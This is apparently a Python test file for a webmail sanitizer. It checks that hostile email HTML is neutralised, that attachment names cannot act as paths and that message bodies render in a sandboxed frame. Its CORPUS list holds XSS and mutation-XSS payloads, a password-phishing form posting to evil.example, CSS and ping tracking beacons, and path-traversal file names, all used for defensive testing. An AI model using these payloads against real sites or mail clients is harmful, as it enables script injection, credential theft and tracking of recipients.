# SPDX-License-Identifier: AGPL-3.0-or-later
"""Bodies: hostile HTML, pictures, links in text, which part is read."""

from __future__ import annotations

import html
import re
import time
from email.message import EmailMessage
from html.parser import HTMLParser

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from mailserver.message import scan
from tests.webmail.conftest import CIVIL, Site, letter
from webmail.pages.mail import reading

CORPUS = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)><animate attributeName=href values=javascript:alert(1) /></svg>",
    "<svg><style><!--</style><img src=x onerror=alert(1)>--></style></svg>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript>",
    "<template><script>alert(1)</script></template>",
    "<a href='javascript:alert(1)'>x</a>",
    "<a href=' &#106;avascript:alert(1)'>x</a>",
    "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
    "<a href='vbscript:x'>x</a>",
    "<iframe src='https://evil.example'></iframe><object data=x></object><embed src=x>",
    "<form action='https://evil.example'><input name=password><button>Gửi</button></form>",
    "<base href='https://evil.example/'><meta http-equiv=refresh content='0;url=https://evil.example'>",
    "<link rel=stylesheet href='https://evil.example/x.css'><link rel=prefetch href='https://evil.example/'>",
    "<style>@import 'https://evil.example/x.css';*{position:fixed}</style>",
    "<div style='position:fixed;inset:0;background:url(https://evil.example/x)'>x</div>",
    "<div style='background-image:url(https://evil.example/x);color:red'>x</div>",
    "<div style='color:var(--x, url(https://evil.example));width:expression(alert(1))'>x</div>",
    "<body background='https://evil.example/x'><table background='https://evil.example/y'><td background='z'>",
    "<img srcset='https://evil.example/x 2x' src='cid:none'>",
    "<img src='//evil.example/x'><img src='http://evil.example/x'><input type=image src='https://evil.example/x'>",
    "<video poster='https://evil.example/x'><source src='https://evil.example/y'></video><audio src='z'></audio>",
    "<img src='data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+'>",
    "<p id=__proto__ name=body class=btn onclick=alert(1)>x</p>",
    "<x-foo is=script>x</x-foo><plaintext><b>",
    "<img/src='https://evil.example'/onerror=alert(1)//",
    "<!--[if gte IE 4]><script>alert(1)</script><![endif]-->",
    "<a target=_top href='https://good.example' ping='https://evil.example'>x</a>",
]


class _Seen(HTMLParser):
    """Tags and attributes as a parser of HTML sees them."""

    def __init__(self) -> None:
        super().__init__()
        self.tags: list[tuple[str, dict[str, str | None]]] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append((tag, dict(attrs)))


def _harmless(text: str) -> None:
    seen = _Seen()
    seen.feed(text)
    for tag, attributes in seen.tags:
        assert tag not in {
            *(
                "script",
                "style",
                "iframe",
                "object",
                "embed",
                "form",
                "input",
                "button",
                "base",
                "meta",
                "link",
            ),
            *(
                "svg",
                "math",
                "template",
                "noscript",
                "video",
                "audio",
                "source",
                "frame",
                "body",
                "html",
                "plaintext",
            ),
        }
        for name, value in attributes.items():
            assert not name.startswith("on")
            assert name not in ("srcset", "background", "ping", "id", "class", "name", "action", "formaction")
            if name == "src":
                assert value is not None
                assert value.startswith("data:image/")
                assert "svg" not in value
            if name == "href":
                assert re.match(r"(https?|mailto):", value or "")
            if name == "style":
                assert "url(" not in (value or "")
                assert "position" not in (value or "")
            if name == "target":
                assert value == "_blank"


@pytest.mark.parametrize("text", CORPUS)
def test_hostile_html_is_harmless_and_stays_so(text: str) -> None:
    """S17, S18, S22, S23: nothing runs, loads or covers, also when it is read and written again."""
    once = reading.clean(text, {})
    _harmless(once.html)
    again = reading.clean(once.html, {}).html
    assert again == reading.clean(again, {}).html
    _harmless(again)


@settings(max_examples=150, deadline=None)
@given(st.lists(st.sampled_from(CORPUS), min_size=2, max_size=5), st.integers(0, 40), st.integers(1, 30))
def test_pieces_of_hostile_html_are_harmless(parts: list[str], at: int, length: int) -> None:
    """S17, S18, S22, S23: whatever is cut out of it."""
    whole = "".join(parts)
    _harmless(reading.clean(whole[:at] + whole[at + length :], {}).html)


def test_remote_pictures_are_counted_and_own_ones_shown() -> None:
    source = "<img src='https://a.example/1'><img src='//b.example/2'><img src='cid:x1'><img src=\"data:image/png;base64,aaaa\">"
    cleaned = reading.clean(source, {"x1": "data:image/png;base64,iVBO"})
    assert cleaned.remote == 2
    assert cleaned.html.count("data:image/png") == 2


def test_formatting_that_is_harmless_stays() -> None:
    source = '<table><tr><td colspan="2" style="text-align:center;color:#a3271b">Số</td></tr></table><p><b>đậm</b></p>'
    made = reading.clean(source, {}).html
    assert 'colspan="2"' in made
    assert "text-align:center" in made
    assert "<b>đậm</b>" in made


@settings(max_examples=200, deadline=None)
@given(st.text(alphabet=st.sampled_from(list("abđ <>\"'&:/.@\n\thtpsw()[]javcript%#?=")), max_size=200))
def test_links_in_text_never_make_markup(text: str) -> None:
    """S20: links are all that text becomes."""
    made = reading.linked(text)
    seen = _Seen()
    seen.feed(made)
    for tag, attributes in seen.tags:
        assert tag in ("p", "a")
        assert set(attributes) <= {"href", "target", "rel"}
        if tag == "a":
            assert re.match(r"https?://|/compose\?to=", attributes["href"] or "")
    plain = html.unescape(re.sub(r"</?(?:p|a)\b[^>]*>", "", made))
    assert plain.replace("\n", "").split() == text.replace("\n", " ").split() or "\n" in text


def test_links_in_text() -> None:
    made = reading.linked('Xem https://camau.example/a?b=1&c="x". Hỏi vt1@vpubnd.camau.example, nhé.')
    assert 'href="https://camau.example/a?b=1&amp;c="' in made
    assert 'href="/compose?to=vt1@vpubnd.camau.example"' in made


def test_long_text_is_linear() -> None:
    for text in ("a@" * 200_000, "http://" * 80_000, "a.b-c" * 100_000 + "@", "\n " * 200_000, "<" * 300_000):
        start = time.process_time()
        reading.linked(text)
        reading.clean(text, {})
        assert time.process_time() - start < 5


def _chosen(message: EmailMessage, prefer: str = "html") -> list[str]:
    summary = scan(message.as_bytes())
    return [one.type for one in reading.body_parts(summary, prefer="text" if prefer == "text" else "html")]


def test_of_alternatives_the_wanted_one() -> None:
    message = letter("Hai dạng")
    message.add_alternative("<p>đẹp</p>", subtype="html")
    assert _chosen(message) == ["text/html"]
    assert _chosen(message, "text") == ["text/plain"]
    message.add_attachment(b"x", maintype="application", subtype="pdf", filename="a.pdf")
    assert _chosen(message) == ["text/html"]
    assert [one.name for one in reading.files(scan(message.as_bytes()))] == ["a.pdf"]


def test_an_attached_letter_keeps_its_own_files() -> None:
    inner = letter("Bên trong")
    inner.add_attachment(b"x", maintype="application", subtype="pdf", filename="trong.pdf")
    outer = letter("Bên ngoài")
    outer.add_attachment(inner)
    found = reading.files(scan(outer.as_bytes()))
    assert [one.type for one in found] == ["message/rfc822"]


@pytest.mark.parametrize(
    ("given_name", "safe"),
    [
        ("../../etc/passwd", "passwd"),
        ("C:\\x\\y.doc", "y.doc"),
        (".bashrc", "bashrc"),
        ("a\r\nb.txt", "a b.txt"),
    ],
)
def test_names_for_saving(given_name: str, safe: str) -> None:
    """S25: a name is no path and has no hidden part."""
    message = scan(b"Content-Type: application/pdf\r\n\r\nx")
    part = message.parts[0]
    import dataclasses

    assert reading.file_name(dataclasses.replace(part, filename=given_name)) == safe


def test_the_body_is_a_sandboxed_document(site: Site) -> None:
    message = letter("Độc hại")
    message.add_alternative(CORPUS[0] + CORPUS[1] + CORPUS[21] + "<p>Chữ còn lại</p>", subtype="html")
    uid = site.put(CIVIL, message)
    browser = site.signed_in(CIVIL)
    page = browser.get(f"/mail/inbox/{uid}").text
    assert "<iframe" in page
    assert 'sandbox="allow-popups allow-popups-to-escape-sandbox"' in page
    assert "evil.example" not in page
    body = browser.get(f"/mail/inbox/{uid}/body")
    policy = body.headers["Content-Security-Policy"]
    assert policy.startswith("sandbox ")
    assert "allow-scripts" not in policy
    assert "allow-same-origin" not in policy
    assert "default-src 'none'" in policy
    assert "script-src" not in policy
    assert "Đã bỏ" in body.text
    _harmless(
        body.text.partition("<body>")[2]
        .replace("</body></html>", "")
        .replace('class="said"', "")
        .replace('class="html"', "")
        .replace('class="text"', "")
    )


def test_plain_text_has_its_body_document_too(site: Site) -> None:
    uid = site.put(CIVIL, letter("Chữ thường", "Kính gửi <b>không đậm</b>."))
    browser = site.signed_in(CIVIL)
    for path in (f"/mail/inbox/{uid}", f"/mail/inbox/{uid}/body"):
        assert "Kính gửi &lt;b&gt;không đậm&lt;/b&gt;." in browser.get(path).text


def test_own_pictures_are_data(site: Site) -> None:
    message = EmailMessage()
    message["From"], message["To"], message["Subject"] = "a@b.example", CIVIL, "Ảnh"
    message.set_content('<p>x</p><img src="cid:anh1"><img src="cid:gia">', subtype="html")
    message.add_related(b"\x89PNG\r\n\x1a\nxx", maintype="image", subtype="png", cid="<anh1>")
    message.add_related(b"<svg onload=alert(1)>", maintype="image", subtype="png", cid="<gia>")
    uid = site.put(CIVIL, message)
    text = site.signed_in(CIVIL).get(f"/mail/inbox/{uid}/body").text
    assert text.count("data:image/png;base64,") == 1
